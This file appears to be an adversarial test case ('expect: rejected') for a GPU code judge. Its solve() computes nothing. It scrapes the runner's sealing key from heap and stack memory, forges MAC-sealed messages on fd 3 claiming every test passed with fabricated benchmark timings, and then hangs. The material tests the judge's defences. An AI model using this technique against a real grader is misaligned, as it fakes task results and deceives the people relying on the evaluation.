// expect: rejected
// Attack (the runner's own memory): the runner seals its messages with a secret "the submission
// never sees" (judge/sealed_channel.hpp), but the secret lives in the process that runs solve: as
// 384 hex digits in the hello line's JSON, which main() keeps on the heap, and as 192 bytes in the
// channel's message_sealer on main's stack, right after the channel's FILE* (whose descriptor is 3)
// and right before the sequence number of the next message. On its first call (example 1) solve
// reads the key from the heap, finds the sealer on the stack, and writes sealed lines of its own on
// fd 3 with the right sequence numbers (XXH3-128 keyed with the secret, as the judge checks them):
// the example's end and result, every other test accepted, and timed results for both benchmarks
// at 101 % of the time the bytes take at the measured ceiling. Then it never returns; the judge
// reads it all, accepts, keeps the fake time as a personal best, and kills the runner at the end.
// It computes nothing. Once the verdict and times come from outside the process that runs solve,
// the runner's word is worth nothing and the call never returning is a time_limit_exceeded (or
// the forged lines a runtime_error).
#include <cuda_runtime.h>
#include <unistd.h>
#if __has_include(<xxhash.h>)  // not on a GPU machine without Debian packages: the seals are then wrong
#define XXH_INLINE_ALL
#include <xxhash.h>
#define ATTACK_CAN_SEAL 1
#endif

#include <algorithm>
#include <cctype>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

namespace {

constexpr std::size_t kKeyBytes = 192;
constexpr int kExamples = 2, kTests = 18;  // problems/reduction/problem.yaml: 2 examples, 14 functional, 2 benchmarks
constexpr int kBenchmarks[2] = {16, 17};
constexpr double kBenchmarkN[2] = {50000000, 100000000};

struct region {
    std::uintptr_t begin, end;
    std::string name;
};

std::vector<region> writable_regions() {
    std::vector<region> regions;
    std::ifstream maps("/proc/self/maps");
    for (std::string line; std::getline(maps, line);) {
        unsigned long begin = 0, end = 0;
        char perms[8] = {0};
        if (std::sscanf(line.c_str(), "%lx-%lx %7s", &begin, &end, perms) != 3 || perms[0] != 'r' || perms[1] != 'w')
            continue;
        const std::size_t slash = line.find_first_of("/[");
        regions.push_back({begin, end, slash == std::string::npos ? "" : line.substr(slash)});
    }
    return regions;
}

// The key's hex digits, wherever a string of exactly 384 of them lies in writable memory.
bool find_key(const std::vector<region>& regions, unsigned char* key) {
    for (const region& r : regions) {
        if (!r.name.empty() && r.name != "[heap]") continue;  // the heap and anonymous mappings
        const char* p = reinterpret_cast<const char*>(r.begin);
        std::size_t run = 0;
        for (std::uintptr_t at = r.begin; at < r.end; ++at, ++p) {
            const bool hex = (*p >= '0' && *p <= '9') || (*p >= 'a' && *p <= 'f');
            if (hex) {
                ++run;
                continue;
            }
            if (run == 2 * kKeyBytes) {
                const char* digits = p - run;
                for (std::size_t i = 0; i < kKeyBytes; ++i) {
                    unsigned value = 0;
                    std::sscanf(digits + 2 * i, "%2x", &value);
                    key[i] = static_cast<unsigned char>(value);
                }
                return true;
            }
            run = 0;
        }
    }
    return false;
}

bool readable(const std::vector<region>& regions, std::uintptr_t address, std::size_t bytes) {
    for (const region& r : regions)
        if (address >= r.begin && address + bytes <= r.end) return true;
    return false;
}

// The sealer's copy of the key: preceded by the channel's FILE* on fd 3, followed by next_.
std::uint64_t* find_sequence(const std::vector<region>& regions, const unsigned char* key) {
    for (const region& r : regions) {
        if (r.name != "[stack]") continue;
        for (std::uintptr_t at = r.begin + 8; at + kKeyBytes + 8 <= r.end; at += 8) {
            if (std::memcmp(reinterpret_cast<const void*>(at), key, kKeyBytes) != 0) continue;
            FILE* file = *reinterpret_cast<FILE* const*>(at - 8);
            const auto address = reinterpret_cast<std::uintptr_t>(file);
            if (!readable(regions, address, sizeof(FILE)) || fileno(file) != 3) continue;
            return reinterpret_cast<std::uint64_t*>(at + kKeyBytes);
        }
    }
    return nullptr;
}

std::string sealed(const unsigned char* key, std::uint64_t sequence, const std::string& body) {
    char mac[33] = "00000000000000000000000000000000";
#ifdef ATTACK_CAN_SEAL
    const std::string text = std::to_string(sequence) + "\n" + body;
    const XXH128_hash_t hash = XXH3_128bits_withSecret(text.data(), text.size(), key, kKeyBytes);
    std::snprintf(mac, sizeof mac, "%016llx%016llx", static_cast<unsigned long long>(hash.high64),
                  static_cast<unsigned long long>(hash.low64));
#else
    (void)key;
#endif
    return std::to_string(sequence) + " " + mac + " " + body + "\n";
}

std::string event(const char* name, const std::string& body) {
    return std::string("{\"event\":\"") + name + "\",\"body\":" + body + "}";
}

std::string result(int test, const std::string& timing) {
    return event("result", "{\"test\":" + std::to_string(test) +
                               ",\"verdict\":\"accepted\",\"message\":\"\",\"wall_ms\":0.05" + timing + "}");
}

std::string timing_of(double ms) {
    char text[512];
    std::snprintf(text, sizeof text,
                  ",\"timing\":{\"stats\":{\"count\":400,\"median\":%.9g,\"mean\":%.9g,\"min\":%.9g,\"max\":%.9g,"
                  "\"stddev\":%.9g,\"rse\":0.0004},\"event_median_ms\":%.9g,\"host_median_ms\":%.9g,"
                  "\"host_overhead_ms\":0.012,\"host_clock\":false,\"blocking\":true}",
                  ms, ms * 1.001, ms * 0.995, ms * 1.02, ms * 0.004, ms, ms * 1.01);
    return text;
}

double measure_copy_gbps() {
    const std::size_t bytes = std::size_t{1} << 30;
    void *a = nullptr, *b = nullptr;
    if (cudaMalloc(&a, bytes) != cudaSuccess || cudaMalloc(&b, bytes) != cudaSuccess) return 3000;
    cudaEvent_t start, stop;
    cudaEventCreate(&start);
    cudaEventCreate(&stop);
    float best = 1e9f;
    for (int i = 0; i < 6; ++i) {
        float ms = 0;
        cudaEventRecord(start);
        cudaMemcpyAsync(b, a, bytes, cudaMemcpyDeviceToDevice);
        cudaEventRecord(stop);
        cudaEventSynchronize(stop);
        cudaEventElapsedTime(&ms, start, stop);
        best = std::min(best, ms);
    }
    cudaFree(a);
    cudaFree(b);
    return 2.0 * bytes / (best * 1e-3) / 1e9;
}

}  // namespace

extern "C" void solve(const float* input, float* output, int N) {
    const std::vector<region> regions = writable_regions();
    unsigned char key[kKeyBytes];
    std::uint64_t* sequence = find_key(regions, key) ? find_sequence(regions, key) : nullptr;
    if (!sequence) return;  // nothing written: a wrong answer
    const double gbps = measure_copy_gbps();
    std::vector<std::string> bodies = {event("returned", "{\"test\":0}"), result(0, "")};
    for (int test = 1; test < kExamples; ++test)
        bodies.push_back(event("begin", "{\"test\":" + std::to_string(test) + "}")), bodies.push_back(result(test, ""));
    bodies.push_back(event("done", "{}"));
    for (int test = kExamples; test < kTests; ++test)
        bodies.push_back(event("begin", "{\"test\":" + std::to_string(test) + "}")), bodies.push_back(result(test, ""));
    bodies.push_back(event("done", "{}"));
    for (int b = 0; b < 2; ++b) {
        const double ms = 1.01 * (4 * kBenchmarkN[b] + 4) / (gbps * 1e9) * 1e3;
        bodies.push_back(event("begin", "{\"test\":" + std::to_string(kBenchmarks[b]) + "}"));
        bodies.push_back(result(kBenchmarks[b], timing_of(ms)));
    }
    bodies.push_back(event("done", "{}"));
    std::string lines;
    for (const std::string& body : bodies) lines += sealed(key, (*sequence)++, body);
    (void)!write(3, lines.data(), lines.size());
    for (;;) pause();  // the judge has what it wants; it kills the runner when it is done
}
